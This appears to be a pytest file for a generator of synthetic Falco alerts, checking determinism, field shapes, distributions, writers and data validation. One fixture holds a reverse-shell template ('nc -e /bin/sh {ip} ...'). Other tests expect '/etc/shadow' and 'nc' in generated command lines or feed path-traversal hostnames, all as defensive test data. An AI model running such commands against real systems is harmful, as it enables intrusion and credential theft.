"""Tests for the synthetic alert generator and the bundled demo input under ``alerts/``.

Why these matter: benchmarks are only comparable if the same seed gives the same bytes, the
archive's parsers are only exercised if the alerts look like Falco's (types, key order, message
rendered from the fields), and the demo build is only convincing if every aggregate has entries.
Throughput is deliberately not asserted here; ``benchmarks/`` measures speed.
"""

from __future__ import annotations

import collections
import gzip
import itertools
import json
import os
import re
import subprocess
import sys
import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from generator.read.models import Priority
from generator.synthetic import write
from generator.synthetic.generate import RULES as SYNTH_RULES
from generator.synthetic.generate import AlertGenerator, generate
from generator.synthetic.scenarios import (
    DATA_DIR,
    PLACEHOLDERS,
    ScenarioDataError,
    load_scenarios,
    load_tables,
    load_workloads,
)
from generator.synthetic.write import dumps, write_alerts

ROOT = Path(__file__).resolve().parents[1]

FALCO_PRIORITIES = {p.label for p in Priority}
TOP_KEYS = {"time", "rule", "priority", "source", "tags", "hostname", "output", "output_fields"}
SYSCALL_KEYS = {
    "proc.name",
    "proc.cmdline",
    "proc.exepath",
    "proc.pid",
    "proc.ppid",
    "proc.pname",
    "proc.pcmdline",
    "proc.aname[2]",
    "proc.aname[3]",
    "user.name",
    "user.uid",
    "user.loginuid",
    "container.id",
    "container.name",
    "container.image.repository",
    "container.image.tag",
    "k8s.ns.name",
    "k8s.pod.name",
    "fd.name",
    "evt.type",
    "evt.time",
    "proc.tty",
}
K8S_KEYS = {
    "ka.user.name",
    "ka.verb",
    "ka.target.resource",
    "ka.target.namespace",
    "ka.target.name",
    "ka.response.code",
    "ka.sourceips",
    "ka.useragent",
    "evt.time",
}
CT_KEYS = {"ct.user", "ct.name", "ct.srcip", "ct.region", "ct.user.accountid", "evt.time"}
TIME_RE = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{9}Z$")
PREFIX_RE = re.compile(
    r"^(?P<stamp>\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{9}\+0000|\d{2}:\d{2}:\d{2}\.\d{9}): "
    r"(?P<priority>[A-Za-z]+) (?P<body>.*)$",
    re.S,
)
START = datetime(2026, 11, 16, tzinfo=UTC)
RULES = {rule.name: rule for rule in SYNTH_RULES}


@pytest.fixture(scope="module")
def alerts() -> list[dict[str, Any]]:
    return list(generate(6000, seed=11, start=START, days=5, hosts=8))


def _differing(a: dict[str, bytes], b: dict[str, bytes]) -> list[str]:
    """Names of files missing on one side or with different bytes (short failure messages)."""
    return sorted(name for name in a.keys() | b.keys() if a.get(name) != b.get(name))


def _ns(time_text: str) -> int:
    whole, frac = time_text[:-1].split(".")
    seconds = int(datetime.fromisoformat(whole + "+00:00").timestamp())
    return seconds * 1_000_000_000 + int(frac)


# --------------------------------------------------------------------------------------------
# Determinism
# --------------------------------------------------------------------------------------------


def test_same_seed_gives_identical_bytes_and_other_seeds_differ() -> None:
    def render(seed: int) -> str:
        return "\n".join(dumps(a) for a in generate(1500, seed=seed, start=START))

    first, again, other = render(4), render(4), render(5)
    same, differs = first == again, first != other  # no pytest diff of megabyte strings
    assert same
    assert differs


def test_cli_output_is_byte_identical_across_processes_and_hash_seeds(tmp_path: Path) -> None:
    """Different PYTHONHASHSEEDs catch any iteration over a set or dict of strings."""

    def run(out: Path, hash_seed: str) -> dict[str, bytes]:
        env = {**os.environ, "PYTHONHASHSEED": hash_seed, "PYTHONPATH": str(ROOT)}
        cmd = [sys.executable, "-m", "generator.synthetic", "--count", "800", "--seed", "3"]
        cmd += ["--out", str(out), "--layout", "mixed", "--hosts", "5", "--days", "2"]
        cmd += ["--start", "2026-11-16T00:00:00Z"]
        subprocess.run(cmd, check=True, cwd=ROOT, env=env, capture_output=True)
        return {str(p.relative_to(out)): p.read_bytes() for p in out.rglob("*") if p.is_file()}

    a, b = run(tmp_path / "a", "1"), run(tmp_path / "b", "2")
    assert _differing(a, b) == []
    names = a.keys()
    assert any(n.endswith(".jsonl") for n in names)
    assert any(n.endswith(".jsonl.gz") for n in names)
    assert any(n.startswith("falco/") for n in names)


# --------------------------------------------------------------------------------------------
# Shape
# --------------------------------------------------------------------------------------------


def test_every_alert_has_falco_json_output_shape(alerts: list[dict[str, Any]]) -> None:
    sources = collections.Counter()
    for a in alerts:
        assert a.keys() >= TOP_KEYS, a
        assert set(a) - TOP_KEYS <= {"uuid"}
        assert a["priority"] in FALCO_PRIORITIES
        assert TIME_RE.match(a["time"]), a["time"]
        assert a["tags"] == sorted(a["tags"]) and a["tags"]
        rule = RULES[a["rule"]]
        assert (a["priority"], a["source"], tuple(a["tags"])) == (
            rule.priority,
            rule.source,
            rule.tags,
        )
        fields = a["output_fields"]
        assert list(fields) == sorted(fields), "Falco writes output_fields keys sorted"
        evt_time = fields["evt.time"]
        assert type(evt_time) is int and evt_time > 2**53
        assert evt_time == _ns(a["time"])
        sources[a["source"]] += 1
        expected = {"syscall": SYSCALL_KEYS, "k8s_audit": K8S_KEYS, "aws_cloudtrail": CT_KEYS}
        assert expected[a["source"]] <= fields.keys(), (a["rule"], expected[a["source"]] - set(fields))
    assert set(sources) == {"syscall", "k8s_audit", "aws_cloudtrail"}


def test_syscall_values_have_realistic_types_and_shapes(alerts: list[dict[str, Any]]) -> None:
    syscall = [a["output_fields"] for a in alerts if a["source"] == "syscall"]
    assert len(syscall) > 500
    on_host = 0
    for f in syscall:
        assert 10 <= len(f["proc.cmdline"]) <= 400, f["proc.cmdline"]
        assert isinstance(f["proc.pid"], int) and isinstance(f["proc.ppid"], int)
        assert isinstance(f["user.uid"], int) and isinstance(f["user.loginuid"], int)
        assert isinstance(f["proc.tty"], int)
        assert f["proc.exepath"].startswith("/")
        assert len(f["proc.name"]) <= 15  # the kernel's comm length
        if f["container.id"] == "host":
            on_host += 1
            assert f["container.image.repository"] is None and f["k8s.pod.name"] is None
        else:
            assert re.fullmatch(r"[0-9a-f]{12}", f["container.id"])
            pod = f["k8s.pod.name"]
            assert pod is None or re.fullmatch(r"[a-z0-9-]+-([a-z0-9]{5}|\d)", pod), pod
    assert 0 < on_host < len(syscall)
    names = {f["proc.name"] for f in syscall}
    assert len(names) > 20
    cmdlines = " ".join(f["proc.cmdline"] for f in syscall)
    for shape in ("/etc/shadow", "curl", "nc ", "kubectl", "python3 -c"):
        assert shape in cmdlines


def test_plugin_sources_have_their_field_types(alerts: list[dict[str, Any]]) -> None:
    k8s = [a["output_fields"] for a in alerts if a["source"] == "k8s_audit"]
    ct = [a["output_fields"] for a in alerts if a["source"] == "aws_cloudtrail"]
    assert k8s and ct
    for f in k8s:
        code = f["ka.response.code"]
        assert isinstance(code, str) and code.isdigit()  # the k8saudit plugin emits strings
        assert f["ka.sourceips"].startswith("(")
    for f in ct:
        assert re.fullmatch(r"\d{12}", f["ct.user.accountid"])
        assert re.fullmatch(r"[a-z]{2}-[a-z]+-\d", f["ct.region"])


def test_output_is_falco_prefix_plus_rule_format_rendered_from_output_fields(
    alerts: list[dict[str, Any]],
) -> None:
    """The message must agree with output_fields, as it does in real Falco output."""
    for a in alerts:
        m = PREFIX_RE.match(a["output"])
        assert m, a["output"][:80]
        assert m["priority"] == a["priority"]
        assert a["time"][11:29] in m["stamp"]
        shown = {k: ("<NA>" if v is None else v) for k, v in a["output_fields"].items()}
        assert m["body"] == RULES[a["rule"]].fmt % shown


def test_about_thirty_percent_carry_a_falcosidekick_uuid4(alerts: list[dict[str, Any]]) -> None:
    with_uuid = [a for a in alerts if "uuid" in a]
    assert 0.25 < len(with_uuid) / len(alerts) < 0.35
    for a in with_uuid:
        assert uuid.UUID(a["uuid"]).version == 4
        assert next(iter(a)) == "uuid"  # falcosidekick's struct order, not Falco's
    assert len({a["uuid"] for a in with_uuid}) == len(with_uuid)


def test_every_rule_in_the_table_renders() -> None:
    """Rare rules must not blow up halfway through a million-alert benchmark."""
    gen = AlertGenerator(0, 4)
    for rule in SYNTH_RULES:
        inc = gen.incident(rule)
        ctx = gen.ctx_maker(inc)(inc, 1_795_000_000_123_456_789)
        shown = {k: ("<NA>" if ctx[k] is None else ctx[k]) for k in rule.keys}
        assert rule.fmt % shown
    assert {r.priority for r in SYNTH_RULES} == FALCO_PRIORITIES


# --------------------------------------------------------------------------------------------
# Distribution
# --------------------------------------------------------------------------------------------


def test_times_strictly_increase_inside_the_window_and_come_in_bursts(
    alerts: list[dict[str, Any]],
) -> None:
    times = [a["output_fields"]["evt.time"] for a in alerts]
    assert all(x < y for x, y in itertools.pairwise(times))
    start_ns = int(START.timestamp()) * 1_000_000_000
    assert start_ns <= times[0] and times[-1] < start_ns + 5 * 86400 * 1_000_000_000 + 10**10
    assert len({t[:10] for t in (a["time"] for a in alerts)}) == 5
    gaps = sorted(y - x for x, y in itertools.pairwise(times))
    mean_gap = (times[-1] - times[0]) / len(gaps)
    assert gaps[len(gaps) // 2] < mean_gap / 5, "median gap should be far below the mean"


def test_rules_and_hosts_are_zipf_skewed(alerts: list[dict[str, Any]]) -> None:
    rules = collections.Counter(a["rule"] for a in alerts)
    top_share = rules.most_common(1)[0][1] / len(alerts)
    assert top_share > 0.10
    assert len(rules) > 40
    assert sum(1 for n in rules.values() if n <= 10) > len(rules) / 3  # a long tail
    nodes = collections.Counter(a["hostname"] for a in alerts if a["source"] == "syscall")
    counts = [n for _, n in nodes.most_common()]
    assert counts[0] > 3 * counts[-1]


def test_bursts_contain_some_exact_repeats(alerts: list[dict[str, Any]]) -> None:
    """Same rule, host and fields (pid included) apart from time and per-event ids."""
    per_event = {"evt.time", "ka.auditid", "ct.id", "container.start_ts"}
    per_event |= {"proc.exe_ino.ctime", "proc.exe_ino.mtime"}

    def key(a: dict[str, Any]) -> tuple[str, str, dict[str, Any]]:
        fields = {k: v for k, v in a["output_fields"].items() if k not in per_event}
        return a["rule"], a["hostname"], fields

    repeats = sum(key(x) == key(y) for x, y in itertools.pairwise(alerts))
    assert 0.08 < repeats / len(alerts) < 0.35


def test_bad_arguments_are_refused() -> None:
    with pytest.raises(ValueError, match="count"):
        generate(-1)
    with pytest.raises(ValueError, match="timezone"):
        generate(1, start=datetime(2026, 1, 1))
    with pytest.raises(ValueError, match="layout"):
        write_alerts([], Path("unused"), "tar")


# --------------------------------------------------------------------------------------------
# Writers
# --------------------------------------------------------------------------------------------


def _read_tree(root: Path) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    for path in sorted(root.rglob("*")):
        if path.name.endswith(".jsonl"):
            out += [json.loads(line) for line in path.read_text("utf-8").splitlines()]
        elif path.name.endswith(".jsonl.gz"):
            with gzip.open(path, "rt", encoding="utf-8") as fh:
                out += [json.loads(line) for line in fh]
        elif path.name.endswith(".json"):
            doc = json.loads(path.read_text("utf-8"))
            out += doc if isinstance(doc, list) else [doc]
    return out


@pytest.mark.parametrize("layout", ["jsonl", "jsonl.gz", "s3", "mixed"])
def test_write_alerts_round_trips_every_layout(tmp_path: Path, layout: str) -> None:
    alerts = list(generate(400, seed=2, start=START, days=2, hosts=3))
    files = write_alerts(alerts, tmp_path, layout, seed=1)
    assert files and all(p.is_file() and tmp_path in p.parents for p in files)
    back = _read_tree(tmp_path)
    assert sorted(map(dumps, back)) == sorted(map(dumps, alerts))
    rel = [p.relative_to(tmp_path).as_posix() for p in files]
    if layout == "jsonl":
        assert all(re.fullmatch(r"[^/]+/2026-11-1[67]\.jsonl", r) for r in rel)
    if layout == "s3":
        assert all(re.fullmatch(r"falco/2026-11-1[67]/2026-11-1[67]T[\d:.]+Z\.json", r) for r in rel)
        assert len(files) == len(alerts)
        assert files[0].read_text("utf-8").startswith("{\n  ")  # one pretty object per file


def test_gzip_output_is_byte_identical_between_runs(tmp_path: Path) -> None:
    alerts = list(generate(200, seed=9))
    one = write_alerts(alerts, tmp_path / "one", "jsonl.gz")
    two = write_alerts(alerts, tmp_path / "two", "jsonl.gz")
    assert [p.read_bytes() for p in one] == [p.read_bytes() for p in two]


def test_hostile_hostname_and_time_cannot_escape_the_output_folder(tmp_path: Path) -> None:
    alert = next(generate(1, seed=1))
    evil = [
        {**alert, "hostname": "../../../etc"},
        {**alert, "hostname": ".."},
        {**alert, "hostname": "a/b\\c", "time": "../../x/../../y"},
    ]
    out = tmp_path / "out"
    for layout in ("jsonl", "s3"):
        for path in write_alerts(evil, out, layout):
            assert out.resolve() in path.resolve().parents
    assert {p.name for p in tmp_path.iterdir()} == {"out"}


# --------------------------------------------------------------------------------------------
# The data files (generator/synthetic/data)
# --------------------------------------------------------------------------------------------


def _broken_scenarios(tmp_path: Path, break_it: Any) -> Path:
    """A copy of the shipped scenarios.yaml with one entry changed by ``break_it(scenarios)``."""
    doc = yaml.safe_load((DATA_DIR / "scenarios.yaml").read_text("utf-8"))
    break_it(doc["scenarios"])
    path = tmp_path / "scenarios.yaml"
    path.write_text(yaml.safe_dump(doc, sort_keys=False), "utf-8")
    return path


def _rename_cmd(scenarios: list[dict[str, Any]]) -> None:
    scenarios[12]["cmds"][0]["command"] = scenarios[12]["cmds"][0].pop("cmd")


def _misspell_where(scenarios: list[dict[str, Any]]) -> None:
    scenarios[3]["wher"] = "host"


def _unknown_net(scenarios: list[dict[str, Any]]) -> None:
    scenarios[5]["net"] = "carrier-pigeon"


def _template_typo(scenarios: list[dict[str, Any]]) -> None:
    scenarios[4]["cmds"][1]["cmd"] = "nc -e /bin/sh {ip} {prot}"


@pytest.mark.parametrize(
    ("break_it", "expected"),
    [
        (
            _rename_cmd,
            ["scenarios[12].cmds[0].cmd: field required", "scenarios[12].cmds[0].command: unknown key"],
        ),
        (_misspell_where, ["scenarios[3].wher: unknown key"]),
        (_unknown_net, ["scenarios[5].net: Input should be"]),
        (_template_typo, ["scenarios[4].cmds[1].cmd: unknown placeholder(s) ['prot']"]),
    ],
)
def test_a_scenario_file_with_a_wrong_or_missing_key_fails_naming_the_file_and_key(
    tmp_path: Path, break_it: Any, expected: list[str]
) -> None:
    """A typo in the data must stop the load with the file and the entry, never become a default."""
    broken = _broken_scenarios(tmp_path, break_it)
    with pytest.raises(ScenarioDataError) as info:
        load_scenarios(broken)
    message = str(info.value)
    assert message.startswith("scenarios.yaml: "), message
    for part in expected:
        assert part in message, message
    assert info.value.path == broken
    assert isinstance(info.value, ValueError)


def test_a_bad_workloads_row_names_the_line_and_column(tmp_path: Path) -> None:
    text = (DATA_DIR / "workloads.tsv").read_text("utf-8")
    bad = tmp_path / "workloads.tsv"
    bad.write_text(text.replace("\tapp\t1000\tweb\t", "\tapp\tone-thousand\tweb\t", 1), "utf-8")
    line = next(n for n, row in enumerate(bad.read_text("utf-8").splitlines(), 1) if "one-thousand" in row)
    with pytest.raises(ScenarioDataError, match=rf"^workloads\.tsv: line {line}: uid: "):
        load_workloads(bad)


def test_files_are_checked_against_each_other(tmp_path: Path) -> None:
    """A scenario naming a rule that is not in rules_summary.tsv (say, renamed upstream) fails."""
    data = tmp_path / "data"
    data.mkdir()
    for src in DATA_DIR.iterdir():
        (data / src.name).write_bytes(src.read_bytes())
    assert load_tables(data).rules == SYNTH_RULES  # an unchanged copy loads the same tables
    _broken_scenarios(data, lambda scenarios: scenarios[0]["rules"].append("Terminal shell in a container"))
    with pytest.raises(
        ScenarioDataError, match=r"^scenarios\.yaml: .*'Terminal shell in a container' is not"
    ):
        load_tables(data)


def test_every_template_placeholder_has_a_value() -> None:
    """The schema accepts exactly the placeholders the generator can fill."""
    gen = AlertGenerator(0, 4)
    inc = gen.incident(next(r for r in SYNTH_RULES if r.source == "syscall"))
    for key in sorted(PLACEHOLDERS):
        assert isinstance(gen.sub_value(key, inc), str), key
    with pytest.raises(KeyError):
        gen.sub_value("prot", inc)


# --------------------------------------------------------------------------------------------
# The bundled demo input
# --------------------------------------------------------------------------------------------

ALERTS_DIR = ROOT / "alerts"
SAMPLES_SRC = ROOT / "tests" / "data" / "falco-samples"


def _bundled() -> list[dict[str, Any]]:
    found = _read_tree(ALERTS_DIR)
    log = ALERTS_DIR / "samples" / "falco.log"
    lines = log.read_text("utf-8").splitlines()
    found += [json.loads(line) for line in lines if line.startswith("{")]
    return found


def test_bundled_input_gives_every_aggregate_several_entries() -> None:
    alerts = _bundled()
    assert len(alerts) >= 220
    assert len({a["rule"] for a in alerts}) >= 20
    assert {a["priority"] for a in alerts} >= FALCO_PRIORITIES
    assert len({a.get("hostname") for a in alerts if a.get("hostname")}) >= 5
    assert {"syscall", "k8s_audit", "aws_cloudtrail"} <= {a.get("source") for a in alerts}
    november = {a["time"][:10] for a in alerts if str(a.get("time", "")).startswith("2026-11")}
    assert len(november) >= 5
    total = sum(p.stat().st_size for p in ALERTS_DIR.rglob("*") if p.is_file())
    assert total < 1_000_000


def test_bundled_input_has_every_format() -> None:
    syn = ALERTS_DIR / "synthetic"
    assert list(syn.glob("node-*/*.jsonl"))
    assert len(list(syn.rglob("*.jsonl.gz"))) == 1
    docs = [json.loads(p.read_text("utf-8")) for p in syn.rglob("*.json")]
    assert any(isinstance(d, list) for d in docs)
    pretty = [p for p in syn.rglob("*.json") if p.read_text("utf-8").startswith("{\n")]
    assert len(pretty) == 1
    assert list((ALERTS_DIR / "s3" / "falco" / "2026-11-20").glob("2026-11-20T*Z.json"))
    readme = (ALERTS_DIR / "README.md").read_text("utf-8")
    for sample in (ALERTS_DIR / "samples").iterdir():
        assert sample.name in readme, f"{sample.name} has no origin line in alerts/README.md"


def test_committed_synthetic_files_are_what_the_generator_writes(tmp_path: Path) -> None:
    """Catches a generator change that was not followed by `python -m generator.synthetic --demo`."""
    write.write_demo(tmp_path)
    for sub in ("synthetic", "s3"):
        want = {
            p.relative_to(tmp_path).as_posix(): p.read_bytes()
            for p in (tmp_path / sub).rglob("*")
            if p.is_file()
        }
        have = {
            p.relative_to(ALERTS_DIR).as_posix(): p.read_bytes()
            for p in (ALERTS_DIR / sub).rglob("*")
            if p.is_file()
        }
        hint = "regenerate with: python -m generator.synthetic --demo --out alerts"
        assert _differing(have, want) == [], hint
    assert (
        write.demo_coverage(list(generate(write.DEMO_COUNT, write.DEMO_SEED, write.DEMO_START, 7, 6))) == []
    )


def test_real_samples_are_verbatim_copies() -> None:
    for src in sorted((SAMPLES_SRC / "alerts").glob("*.json")):
        assert (ALERTS_DIR / "samples" / src.name).read_bytes() == src.read_bytes()
    (raw,) = (SAMPLES_SRC / "raw_logs").glob("*.log")
    assert (ALERTS_DIR / "samples" / "falco.log").read_bytes() == raw.read_bytes()
